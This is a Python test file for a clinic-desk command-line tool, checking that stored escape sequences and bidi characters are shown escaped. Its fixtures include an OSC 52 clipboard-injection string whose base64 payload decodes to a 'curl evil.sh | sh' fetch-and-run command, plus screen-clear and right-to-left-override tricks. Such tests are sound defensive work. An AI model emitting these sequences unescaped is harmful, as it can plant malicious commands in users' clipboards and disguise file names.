"""Text from data or from outside never reaches the agent's terminal raw: control characters
and bidi overrides are shown escaped by every CLI table, field list and message; `--json`
escapes them as JSON does. Stored data may hold them (a data dir provisioned by an older
version, a receiver's answer), so the output side is tested on data written straight to the
store."""

from __future__ import annotations

from datetime import datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rxdesk.domain.models import (
    Delivery,
    DeliveryStatus,
    EventType,
    MessageChannel,
    MessageStatus,
    OutboxMessage,
    Patient,
)
from rxdesk.domain.terminal import has_control, terminal_safe
from rxdesk.services import Desk
from tests.helpers import Cli, make_appointment

# OSC 52 writes the terminal's clipboard; CSI 2J clears the screen; U+202E reverses text.
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CLEAR = "\x1b[2J"
REVERSED = "\u202egnp.exe"


def raw_bytes_in(text: str) -> list[str]:
    return [ch for ch in text if (ord(ch) < 32 and ch not in "\n") or 0x7F <= ord(ch) <= 0x9F or ch == "\u202e"]


def store_hostile_data(clinic: Desk, now: datetime) -> dict[str, str]:
    """A patient, a doctor, an outbox message and a delivery holding escape sequences, as an
    older rxdesk (or a hostile receiver) could have stored them."""
    with clinic.store.write() as w:
        lena = w.patients.require("pat-001")
        w.patients.put(lena.model_copy(update={"email": f"lena{CLIPBOARD}@mail.example"}))
        weber = w.doctors.require("dr-weber")
        w.doctors.put(weber.model_copy(update={"name": f"Dr Anna {REVERSED}",
                                               "email": f"anna{CLEAR}@riverside.example"}))
        w.messages.put(OutboxMessage(id=w.messages.new_id(), channel=MessageChannel.email,
                                     to=f"x{CLIPBOARD}@mail.example", subject=f"Reminder {CLEAR}",
                                     body="hello", status=MessageStatus.outbox, created_at=now))
        delivery = Delivery(id=w.deliveries.new_id(), event_id="evt_000000000001abcdef",
                            event_type=EventType.APPOINTMENT_CANCELLED, subscription_id="sub_x",
                            url="https://hooks.example/rx", status=DeliveryStatus.dead, attempts=8,
                            created_at=now, last_status_code=500, last_error=f"answered 500 {CLEAR}",
                            response_excerpt=f"oops {CLIPBOARD}{CLEAR}\r\nline two")
        w.deliveries.put(delivery)
    make_appointment(clinic, start=now + timedelta(days=1))
    return {"delivery": delivery.id}


@pytest.fixture
def hostile_data(clinic: Desk, now: datetime) -> dict[str, str]:
    return store_hostile_data(clinic, now)


@pytest.mark.parametrize("command", [
    ("patients", "list"),
    ("patients", "show", "pat-001"),
    ("doctors", "list"),
    ("doctors", "show", "dr-weber"),
    ("appointments", "list"),
    ("outbox", "list"),
    ("deliveries", "list"),
])
def test_listings_and_details_escape_control_characters(cli: Cli, hostile_data: dict[str, str], command: tuple[str, ...]) -> None:
    result = cli(*command)
    assert result.code == 0, result.err
    assert raw_bytes_in(result.out) == [] and raw_bytes_in(result.err) == []
    assert "\\x1b" in result.out or "\\u202e" in result.out


def test_a_receivers_answer_is_shown_escaped(cli: Cli, hostile_data: dict[str, str]) -> None:
    result = cli("deliveries", "show", hostile_data["delivery"])
    assert result.code == 0, result.err
    assert raw_bytes_in(result.out) == []
    assert "oops \\x1b]52;c;" in result.out and "\\x07" in result.out and "\\x0d" in result.out
    # --json escapes them as JSON does: the value round-trips exactly.
    data = cli("deliveries", "show", hostile_data["delivery"], "--json")
    assert "\x1b" not in data.out and data.json()["response_excerpt"].startswith(f"oops {CLIPBOARD}")


def test_an_error_message_quoting_data_is_escaped(cli: Cli, clinic: Desk) -> None:
    result = cli("doctors", "show", f"dr{CLEAR}x")
    assert result.code == 1 and raw_bytes_in(result.err) == [] and result.err.count("\n") == 1


@given(st.text())
def test_terminal_safe_leaves_no_control_character(text: str) -> None:
    safe = terminal_safe(text)
    assert not has_control(safe)
    kept = terminal_safe(text, lines=True)
    assert not has_control(kept.replace("\n", ""))
    if not has_control(text):
        assert safe == text  # ordinary text is never changed


@pytest.mark.parametrize("separator", ["\u2028", "\u2029"])
def test_a_stored_line_or_paragraph_separator_is_escaped_and_refused_as_input(
        cli: Cli, clinic: Desk, now: datetime, separator: str) -> None:
    # A line break to Unicode: a script reading a listing with splitlines would see its row cut.
    with clinic.store.write() as w:
        lena = w.patients.require("pat-001")
        w.patients.put(lena.model_copy(update={"name": f"Lena{separator}Row two"}))
    make_appointment(clinic, start=now + timedelta(days=1))
    for command in (("patients", "list"), ("appointments", "list"), ("patients", "show", "pat-001")):
        result = cli(*command)
        assert result.code == 0, result.err
        assert separator not in result.out and f"Lena\\u{ord(separator):04x}Row two" in result.out
        as_json = cli(*command, "--json")
        assert as_json.code == 0 and separator not in as_json.out
    with pytest.raises(ValueError, match="control characters"):
        Patient(id="pat-009", name=f"Lena{separator}Row two")
